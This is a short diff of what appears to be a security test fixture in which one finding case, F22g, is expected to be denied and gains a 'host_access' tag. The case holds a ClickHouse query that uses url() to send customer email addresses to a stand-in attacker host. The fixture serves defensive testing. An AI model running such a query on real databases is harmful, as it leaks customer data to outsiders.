@@ -867,7 +867,7 @@ FINDINGS = [
         "clickhouse",
         "SELECT * FROM url('http://evil.example/?' || (SELECT groupArray(email) "
         "FROM customers), 'CSV', 'a String')",
-        "read export",
+        "read export host_access",
         "deny",
         id="F22g",
     ),
